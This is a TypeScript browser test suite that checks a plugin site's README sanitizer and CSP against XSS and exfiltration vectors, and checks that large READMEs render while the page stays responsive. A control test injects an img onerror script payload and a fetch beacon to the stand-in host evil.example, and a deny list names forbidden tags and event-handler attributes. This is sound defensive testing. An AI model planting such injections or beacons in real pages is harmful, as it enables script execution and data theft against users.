/**
 * A README is a stranger's text (contract section 11, "The explorer"; issue
 * 28, point 6). In headless Chromium, on a site built by the CLI and put on
 * `serve`, the plugin view renders READMEs that carry every classic script
 * and exfiltration vector, and READMEs too large or too deep to render whole,
 * each a plugin's README in the test catalog, as the API answers it (which
 * cuts one past its bound, contract section 5).
 *
 * What is proved, and how it could fail: a payload that runs sets
 * `window.pwned` or opens a dialog (both watched; a control test shows the
 * watch sees a payload that is let through); a vector that loads asks
 * `evil.example` or an `http:` URL for something (every request the page makes
 * is logged, and each host answers locally: nothing leaves the machine). The
 * vectors are rendered once with the page's Content-Security-Policy taken
 * out, so that the sanitizer alone stands between them and the page, and
 * once with it, as the site serves the page.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SnapshotPlugin } from "../../src/snapshot/schema.js";
import { type Browser, buildAndServe, launchBrowser, type ServedSite } from "./browser.js";
import { CONFIG, HOSTILE_PLUGIN, README_PLUGINS, readmeCatalog } from "./catalog.js";
import { EVIL, HEAVY_READMES, HOSTILE_ALLOWED_REQUESTS, IMAGE_HOST, RAW_HOST } from "./details.js";

const PIXEL = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");
/** How long asynchronous payloads (image errors, timers, meta refresh) get to run after the README is shown. */
const SETTLE_MS = 1_500;
/** The longest the page may take to answer while it renders a heavy README: far above a responsive page's. */
const RESPONSIVE_MS = 3_000;

let browser: Browser;
let site: ServedSite;

beforeAll(async () => {
  const [launched, served] = await Promise.allSettled([
    launchBrowser().then((b) => (browser = b)),
    buildAndServe(readmeCatalog(), CONFIG).then((s) => (site = s)),
  ]);
  for (const outcome of [launched, served]) if (outcome.status === "rejected") throw outcome.reason;
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

interface Watched {
  readonly page: Page;
  /** The plugin whose view it opens. */
  readonly plugin: SnapshotPlugin;
  /** Every URL the page asked for, in order. */
  readonly requested: string[];
  /** Every dialog a script opened. */
  readonly dialogs: string[];
  /** Every page the top frame navigated to. */
  readonly navigations: string[];
}

/**
 * A page whose every request, dialog and navigation is recorded, to open `plugin`'s view. `csp: false`: the page's
 * Content-Security-Policy is taken out of its HTML.
 */
async function watch(plugin: SnapshotPlugin, csp: boolean): Promise<Watched> {
  const page = await browser.context.newPage();
  const watched: Watched = { page, plugin, requested: [], dialogs: [], navigations: [] };
  page.on("request", (request) => void watched.requested.push(request.url()));
  page.on("dialog", (dialog) => {
    watched.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("framenavigated", (frame) => {
    if (frame === page.mainFrame()) watched.navigations.push(frame.url());
  });
  await page.route(
    (url) => !url.href.startsWith(site.siteUrl),
    (route) => route.fulfill({ status: 200, contentType: "image/png", body: PIXEL }),
  );
  if (!csp) {
    await page.route(
      (url) => url.href.startsWith(site.siteUrl) && new URL(url.href).pathname === "/",
      async (route) => {
        const real = await route.fetch();
        const html = (await real.text()).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
        expect(html).not.toContain("Content-Security-Policy");
        await route.fulfill({ response: real, body: html });
      },
    );
  }
  return watched;
}

async function openView(watched: Watched): Promise<void> {
  await watched.page.goto(`${site.siteUrl}?plugin=${watched.plugin.slug}`);
  await viewShown(watched.page);
}

/** The view has shown its answer, README included. */
async function viewShown(page: Page): Promise<void> {
  await page.waitForFunction(() => {
    const main = document.getElementById("plugin");
    return main && !main.hidden && !main.hasAttribute("aria-busy") && !document.querySelector("#readme-box[aria-busy]");
  });
}

/**
 * What a payload that ran or loaded would have left: the flag, dialogs, requests off the allowed hosts, navigations.
 * The README's images load lazily, only near the viewport: each is made eager first, so that every image the README
 * kept is asked for, wherever the view's layout puts it.
 */
async function traces(watched: Watched) {
  await watched.page.evaluate(() => {
    for (const image of document.querySelectorAll("#readme-box img")) image.setAttribute("loading", "eager");
  });
  await watched.page.waitForTimeout(SETTLE_MS);
  const allowed = (url: string) =>
    url.startsWith(site.siteUrl) ||
    url.startsWith(`https://${IMAGE_HOST}/`) ||
    url.startsWith(`https://${RAW_HOST}/jane-doe/wind-logger/main/`);
  return {
    pwned: await watched.page.evaluate(() => (window as unknown as { pwned?: number }).pwned ?? 0),
    dialogs: watched.dialogs,
    strayRequests: watched.requested.filter((url) => !allowed(url)),
    navigations: watched.navigations.filter((url) => url !== `${site.siteUrl}?plugin=${watched.plugin.slug}`),
  };
}

const NONE = { pwned: 0, dialogs: [], strayRequests: [], navigations: [] };

/** What the README's HTML holds that the contract's rules forbid. */
async function forbiddenInReadme(page: Page): Promise<string[]> {
  return page.locator("#readme-box").evaluate((box) => {
    const found: string[] = [];
    const forbidden = "script, style, iframe, frame, frameset, object, embed, form, base, meta, link, svg, math, input, button";
    for (const element of box.querySelectorAll(forbidden)) found.push(`<${element.localName}>`);
    for (const element of box.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || name === "style" || name === "srcset" || name === "background" || name === "target") {
          found.push(`${element.localName}[${name}]`);
        }
        if ((name === "href" || name === "src") && !/^(https:|#)/.test(value) && !(name === "href" && /^(http:|mailto:)/.test(value))) {
          found.push(`${element.localName}[${name}=${value}]`);
        }
      }
      if (element.localName === "img" && !(element.getAttribute("src") ?? "https:").startsWith("https:")) found.push("img over http");
      if (element.hasAttribute("href") && element.getAttribute("rel") !== "nofollow noopener")
        found.push(`${element.localName} without rel`);
      if (element.id && !element.id.startsWith("user-content-")) found.push(`id=${element.id}`);
    }
    return found;
  });
}

describe("a hostile README in the plugin view", () => {
  it("is watched well enough to see a payload that runs (control: one let in past the sanitizer)", async () => {
    const watched = await watch(README_PLUGINS.get("harmless")!, false);
    await openView(watched);
    await watched.page.evaluate((run) => {
      document
        .getElementById("readme-box")!
        .insertAdjacentHTML("beforeend", `<img src="x" onerror="${run}"><a href="https://${"evil.example"}/">x</a>`);
      setTimeout(() => alert("dialog"), 0);
    }, "window.pwned=(window.pwned||0)+1");
    await watched.page.evaluate(() => fetch("https://evil.example/beacon").catch(() => undefined));
    const seen = await traces(watched);
    expect(seen.pwned).toBe(1);
    expect(seen.dialogs).toEqual(["dialog"]);
    expect(seen.strayRequests).toEqual([`https://${EVIL}/beacon`]);
    expect(await forbiddenInReadme(watched.page)).toContain("img[onerror]");
    await watched.page.close();
  });

  for (const csp of [false, true]) {
    it(`runs nothing and loads nothing but https images, ${csp ? "under the page's CSP" : "by the sanitizer alone (no CSP)"}`, async () => {
      const watched = await watch(HOSTILE_PLUGIN, csp);
      await openView(watched);
      const { page } = watched;
      expect(await page.locator("#readme-box .readme h4").first().textContent()).toBe("Hostile README");
      expect(await forbiddenInReadme(page)).toEqual([]);
      // The README's text survives where its markup does not.
      expect(await page.locator("#readme-box").textContent()).toContain("decimal entities");
      // Clicking every link the README kept runs nothing either (each opens a page elsewhere, or nothing).
      const hrefs = await page.locator("#readme-box .readme a[href]").evaluateAll((links) => links.map((a) => a.getAttribute("href")));
      for (const href of hrefs) expect(href, "a kept link").toMatch(/^(https?:\/\/|mailto:|#user-content-)/);
      expect(await traces(watched)).toEqual(NONE);
      // The allowed images, and no other off the site, were asked for: the hostile README did not just break rendering.
      const offSite = watched.requested.filter((url) => !url.startsWith(site.siteUrl));
      const fromRepository = (url: string) => url.startsWith(`https://${RAW_HOST}/jane-doe/wind-logger/main/`);
      expect(new Set(offSite.filter((url) => !fromRepository(url)))).toEqual(
        new Set(HOSTILE_ALLOWED_REQUESTS.filter((url) => !fromRepository(url))),
      );
      expect(offSite).toContain(`https://${RAW_HOST}/jane-doe/wind-logger/main/docs/logo.png`);
      // The page's own elements are the ones its ids name: nothing in the README took them.
      expect(await page.evaluate(() => document.getElementById("filters")?.tagName)).toBe("FORM");
      expect(await page.evaluate(() => document.getElementById("cards")?.tagName)).toBe("OL");
      await page.close();
    });
  }

  for (const [name, { cut }] of Object.entries(HEAVY_READMES)) {
    it(`renders or cuts ${name} while the page stays responsive`, async () => {
      const watched = await watch(README_PLUGINS.get(name)!, true);
      const { page, plugin } = watched;
      // What the page gets: the README as the API answers it, cut at its bound (contract section 5) if longer.
      const answered = (await (await fetch(`${site.apiUrl}/api/plugins/${plugin.slug}`)).json()) as { readme: string };
      expect([...answered.readme].length).toBeLessThanOrEqual(65_536);
      expect(answered.readme.endsWith("…")).toBe([...plugin.readme].length > 65_536);
      await page.goto(`${site.siteUrl}?plugin=${plugin.slug}`);
      // While the view renders, the page keeps answering: each round trip to its main thread is timed.
      const slowest = await page.evaluate(
        async ({ limit }) => {
          const done = () => document.querySelector("#readme-box .readme, #readme-box .problem") !== null;
          let slowest = 0;
          const started = performance.now();
          while (!done() && performance.now() - started < limit * 10) {
            const asked = performance.now();
            await new Promise((resolve) => setTimeout(resolve, 0));
            slowest = Math.max(slowest, performance.now() - asked);
          }
          return done() ? slowest : Number.POSITIVE_INFINITY;
        },
        { limit: RESPONSIVE_MS },
      );
      expect(slowest, "the longest the page did not answer, in ms").toBeLessThan(RESPONSIVE_MS);
      // The view is usable at once: its back link answers a click.
      const clicked = Date.now();
      await page.getByRole("link", { name: "Back to the plugins" }).click();
      await page.waitForFunction(() => !document.getElementById("list")?.hidden);
      expect(Date.now() - clicked).toBeLessThan(RESPONSIVE_MS);
      await page.goBack();
      await viewShown(page);
      const shown = (await page.locator("#readme-box").textContent()) ?? "";
      expect(shown.includes("The README is cut here"), "cut").toBe(cut);
      if (cut) {
        expect(await page.getByRole("link", { name: /^Read it in full on npm/ }).getAttribute("href")).toBe(
          `https://www.npmjs.com/package/${plugin.npmName}`,
        );
      }
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280);
      await page.close();
    });
  }
});
